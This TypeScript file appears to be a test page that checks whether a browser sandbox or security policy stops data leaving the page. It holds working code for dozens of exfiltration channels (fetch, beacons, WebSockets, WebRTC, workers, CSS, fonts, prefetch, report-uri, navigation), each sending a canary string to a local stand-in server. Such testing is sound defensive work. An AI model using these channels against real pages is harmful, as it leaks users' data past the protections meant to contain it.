/**
 * Every way that we know by which a script of the page could get words out of the browser. Runs in a page of its own,
 * as that page's own code; its address says which way: `/<way>/<port>/`.
 */

interface Goal {
  /** Somebody else's server, which listens for TCP and UDP. */
  origin: string
  host: string
  port: string
  /** A name that nobody has: looking it up would tell whoever answers for names. */
  name: string
}
export type Way = (to: Goal) => unknown

/** What is carried away. */
const WORDS = 'canary'

/** A script or worker address as a string, where the page asks for a trusted one: what it says is not taken. */
const plain = (address: string): URL => address as unknown as URL

function add<Tag extends keyof HTMLElementTagNameMap>(tag: Tag, attributes: Record<string, string>, parent?: Element) {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
  ;(parent ?? document.body).append(element)
  return element
}
const link = (attributes: Record<string, string>): Element => add('link', attributes, document.head)
const click = (attributes: Record<string, string>): void => add('a', attributes).click()
const box = (): HTMLElement => add('div', { class: 'box' })

function worker(address: URL | string, message: unknown): void {
  new Worker(address, { type: 'module' }).postMessage(message, [])
}

const REQUESTS = {
  fetch: ({ origin }) => fetch(`${origin}/?${WORDS}`, { mode: 'no-cors' }),
  fetchKeepalive: ({ origin }) => fetch(origin, { mode: 'no-cors', method: 'POST', body: WORDS, keepalive: true }),
  fetchLater: ({ origin }) => {
    const later = Reflect.get(globalThis, 'fetchLater') as (url: string, init: object) => unknown
    return later(origin.replace('http:', 'https:'), { method: 'POST', body: WORDS, activateAfter: 0 })
  },
  xhr: ({ origin }) => {
    const request = new XMLHttpRequest()
    request.open('POST', origin)
    request.send(WORDS)
  },
  beacon: ({ origin }) => navigator.sendBeacon(origin, WORDS),
  webSocket: ({ origin }) => new WebSocket(`${origin.replace('http', 'ws')}/${WORDS}`),
  eventSource: ({ origin }) => new EventSource(`${origin}/?${WORDS}`),
  webTransport: ({ origin }) => new WebTransport(origin.replace('http:', 'https:')).ready,
  webRtc: async ({ host, port }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${port}` }] })
    connection.createDataChannel(WORDS)
    await connection.setLocalDescription(await connection.createOffer())
  },
  webRtcPeer: async ({ host, port }) => {
    const [near, far] = [new RTCPeerConnection(), new RTCPeerConnection()]
    near.createDataChannel(WORDS)
    await near.setLocalDescription(await near.createOffer())
    await far.setRemoteDescription(near.localDescription!)
    await far.setLocalDescription(await far.createAnswer())
    await near.setRemoteDescription(far.localDescription!)
    await near.addIceCandidate({ candidate: `candidate:1 1 udp 2113937151 ${host} ${port} typ host`, sdpMid: '0' })
  },
  workerFetch: ({ origin }) => worker(ownWorker(), { kind: 'fetch', origin }),
  workerImport: ({ origin }) => worker(ownWorker(), { kind: 'import', origin }),
  workerSocket: ({ origin }) => worker(ownWorker(), { kind: 'socket', origin }),
  workerElsewhere: ({ origin }) => worker(plain(`${origin}/worker.js`), ''),
  blobWorker: ({ origin }) =>
    worker(plain(URL.createObjectURL(new Blob([`fetch('${origin}/', { mode: 'no-cors' })`]))), ''),
  sharedWorker: ({ origin }) => new SharedWorker(plain(`${origin}/worker.js`)),
  serviceWorker: ({ origin }) => navigator.serviceWorker.register(plain(`${origin}/worker.js`)),
} satisfies Record<string, Way>

const ELEMENTS = {
  image: ({ origin }) => {
    new Image().src = `${origin}/${WORDS}`
  },
  imageSet: ({ origin }) => add('img', { srcset: `${origin}/${WORDS} 1x` }),
  svgImage: ({ origin }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', `${origin}/${WORDS}`)
    svg.append(image)
    document.body.append(svg)
  },
  styleProperty: ({ origin }) => {
    box().style.backgroundImage = `url(${origin}/${WORDS})`
  },
  adoptedSheet: ({ origin }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`.box { background: url(${origin}/${WORDS}) }`)
    document.adoptedStyleSheets = [sheet]
    box()
  },
  styleSheet: ({ origin }) => link({ rel: 'stylesheet', href: `${origin}/${WORDS}` }),
  styleImport: ({ origin }) => {
    add('style', {}).textContent = `@import "${origin}/${WORDS}"`
  },
  fontFace: ({ origin }) => new FontFace('x', `url(${origin}/${WORDS})`).load(),
  icon: ({ origin }) => link({ rel: 'icon', href: `${origin}/${WORDS}` }),
  manifest: ({ origin }) => link({ rel: 'manifest', href: `${origin}/${WORDS}` }),
  prefetch: ({ origin }) => link({ rel: 'prefetch', href: `${origin}/${WORDS}` }),
  preload: ({ origin }) => link({ rel: 'preload', as: 'image', href: `${origin}/${WORDS}` }),
  modulePreload: ({ origin }) => link({ rel: 'modulepreload', href: `${origin}/${WORDS}.js` }),
  preconnect: ({ origin }) => link({ rel: 'preconnect', href: origin, crossorigin: '' }),
  dnsPrefetch: ({ name }) => link({ rel: 'dns-prefetch', href: `//${name}` }),
  script: ({ origin }) => {
    const script = document.createElement('script')
    script.src = `${origin}/${WORDS}.js`
    document.head.append(script)
  },
  import: ({ origin }) => import(/* @vite-ignore */ `${origin}/${WORDS}.js`),
  speculation: ({ origin }) => {
    const script = document.createElement('script')
    script.type = 'speculationrules'
    script.textContent = JSON.stringify({ prefetch: [{ urls: [`${origin}/${WORDS}`], eagerness: 'immediate' }] })
    document.head.append(script)
  },
  video: ({ origin }) => add('video', { src: `${origin}/${WORDS}`, preload: 'auto' }),
  audio: ({ origin }) => new Audio(`${origin}/${WORDS}`).load(),
  track: ({ origin }) => {
    const video = add('video', { crossorigin: 'anonymous' })
    video.append(Object.assign(document.createElement('track'), { src: `${origin}/${WORDS}`, default: true }))
    const [track] = video.textTracks
    if (track) track.mode = 'hidden'
  },
  frame: ({ origin }) => add('iframe', { src: `${origin}/${WORDS}` }),
  frameOfData: ({ origin }) => add('iframe', { src: `data:text/html,<img src="${origin}/${WORDS}">` }),
  object: ({ origin }) => add('object', { data: `${origin}/${WORDS}` }),
  embed: ({ origin }) => add('embed', { src: `${origin}/${WORDS}` }),
  policyReport: ({ origin }) => {
    const content = `img-src 'none'; report-uri ${origin}/${WORDS}`
    add('meta', { 'http-equiv': 'Content-Security-Policy', content }, document.head)
    add('img', { src: 'x.png' })
  },
  baseAddress: ({ origin }) => {
    add('base', { href: `${origin}/` }, document.head)
    new Image().src = WORDS
  },
} satisfies Record<string, Way>

const MOVES = {
  location: ({ origin }) => {
    location.href = `${origin}/?${WORDS}`
  },
  locationReplace: ({ origin }) => location.replace(`${origin}/?${WORDS}`),
  metaRefresh: ({ origin }) =>
    add('meta', { 'http-equiv': 'refresh', content: `0; url=${origin}/?${WORDS}` }, document.head),
  windowOpen: ({ origin }) => window.open(`${origin}/?${WORDS}`),
  windowOpenNoOpener: ({ origin }) => window.open(`${origin}/?${WORDS}`, '_blank', 'noopener'),
  link: ({ origin }) => click({ href: `${origin}/?${WORDS}` }),
  linkNewTab: ({ origin }) => click({ href: `${origin}/?${WORDS}`, target: '_blank', rel: 'noreferrer' }),
  linkDownload: ({ origin }) => click({ href: `${origin}/?${WORDS}`, download: 'x' }),
  linkPing: ({ origin }) => click({ href: '#x', ping: `${origin}/?${WORDS}` }),
  formGet: ({ origin }) => add('form', { action: origin, method: 'get' }).submit(),
  formPost: ({ origin }) => add('form', { action: origin, method: 'post' }).submit(),
  openedBlank: ({ origin }) => window.open('about:blank')?.location.replace(`${origin}/?${WORDS}`),
  openedOwn: ({ origin }) => {
    const opened = window.open('../../elsewhere/0/')
    setTimeout(() => opened?.location.replace(`${origin}/?${WORDS}`), 200)
  },
} satisfies Record<string, Way>

/** To the host itself, which sees what it is asked for. */
const HOME = {
  homeFetch: () => fetch(`home?${WORDS}`),
  homeImage: () => {
    new Image().src = `home?${WORDS}`
  },
  homeScript: () => import(/* @vite-ignore */ `${location.href}home.js?${WORDS}`),
  homeStyle: () => link({ rel: 'stylesheet', href: `home?${WORDS}` }),
  homePrefetch: () => link({ rel: 'prefetch', href: `home?${WORDS}` }),
  homeWorker: () => worker(plain(`home.js?${WORDS}`), ''),
  homeForm: () => add('form', { action: 'home', method: 'post' }).submit(),
  homeFrame: () => add('iframe', { src: `home?${WORDS}` }),
  homeLocation: () => {
    location.href = `home?${WORDS}`
  },
  homeOpen: () => window.open(`home?${WORDS}`),
  homeDownload: () => click({ href: `home?${WORDS}`, download: 'x' }),
} satisfies Record<string, Way>

export const WAYS: Readonly<Record<string, Way>> = { ...REQUESTS, ...ELEMENTS, ...MOVES, ...HOME }

interface TrustedTypes {
  createPolicy: (
    name: string,
    rules: { createScriptURL: (url: string) => string },
  ) => {
    createScriptURL: (url: string) => string
  }
}

/** The one worker that the page's policy lets start, by the one name that it allows. */
function ownWorker(): string {
  const { trustedTypes } = globalThis as { trustedTypes?: TrustedTypes }
  const address = new URL('/worker.js', location.href).href
  if (!trustedTypes) return address
  return trustedTypes.createPolicy('foreword-worker', { createScriptURL: (url) => url }).createScriptURL(address)
}

function take(): void {
  const [way = '', port = ''] = location.pathname.split('/').filter(Boolean)
  const goal = {
    origin: `http://127.0.0.1:${port}`,
    host: '127.0.0.1',
    port,
    name: `${way.toLowerCase()}-${WORDS}.example`,
  }
  try {
    // Not awaited: some of them never settle.
    void Promise.resolve(WAYS[way]?.(goal)).catch(() => undefined)
  } catch {
    // A way that is refused may say so; what counts is whether anything left.
  }
  document.title = 'Tried'
}

if (typeof document !== 'undefined') setTimeout(take, 50)
